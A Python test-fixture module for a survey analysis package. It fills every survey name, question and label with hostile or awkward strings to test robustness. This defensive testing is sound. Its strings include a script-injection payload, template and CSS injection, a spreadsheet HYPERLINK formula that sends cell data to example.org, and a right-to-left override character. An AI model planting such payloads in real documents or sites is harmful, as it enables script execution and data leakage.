"""Texts nobody should write into a survey, and a survey made of them."""

from __future__ import annotations

from dataclasses import replace

from cmt.analysis.results import Results
from cmt.instrument.model import Instrument

MARKUP = '"><script>document.title="run"</script><img src=x onerror="document.title=1"> & \'</p>'
TEXTS = {
    "markup": MARKUP,
    "template": "{{ 7*7 }} {% include 'x' %} {0} {name} %s ${x} \\",
    "style": 'x"; } body { display: none } @import url(http://example.org/x); /* -->',
    "formula": '=HYPERLINK("http://example.org/?"&A1)',
    "emoji": "Great 👍🏽 👨‍👩‍👧 service 🇨🇦",
    "cjk": "東京都の窓口サービス満足度調査",
    "right-to-left": "שירות לקוחות \u202eevil\u202c خدمة العملاء",
    "null": "a\x00b\x07c\x1b[31md\x85e\ufffef",
    "long": "Long" * 2_500,
    "sentence": "A long sentence about the service that never ends. " * 200,
    "blank": " \t\n\u200b\u00a0 ",
}


def survey(results: Results, text: str) -> Results:
    """The same results with a text for every name, question, answer and fact."""
    info = replace(
        results.info,
        organization=text,
        service=text,
        label=text,
        population=text,
        mode=text,
        client_group=text,
        frame=text,
    )
    quality = replace(results.quality, unused_columns=(text,), absent_items=())
    return replace(
        results,
        instrument=renamed(results.instrument, text),
        info=info,
        quality=quality,
        source=f"{text[:60]}.csv",
    )


def renamed(instrument: Instrument, text: str) -> Instrument:
    """A questionnaire whose every word is one text, numbered where two must be told apart."""
    languages = instrument.languages
    said = dict.fromkeys(languages, text)
    items = {
        key: replace(item, text=said, short=dict.fromkeys(languages, f"{at} {text}"))
        for at, (key, item) in enumerate(instrument.items.items())
    }
    scales = {
        key: replace(
            scale,
            labels={
                one: tuple(f"{at} {text}" for at in range(len(scale.points))) for one in languages
            },
        )
        for key, scale in instrument.scales.items()
    }
    drivers = {
        key: replace(driver, name=dict.fromkeys(languages, f"{at} {text}"))
        for at, (key, driver) in enumerate(instrument.drivers.items())
    }
    return replace(instrument, items=items, scales=scales, drivers=drivers, title=said)
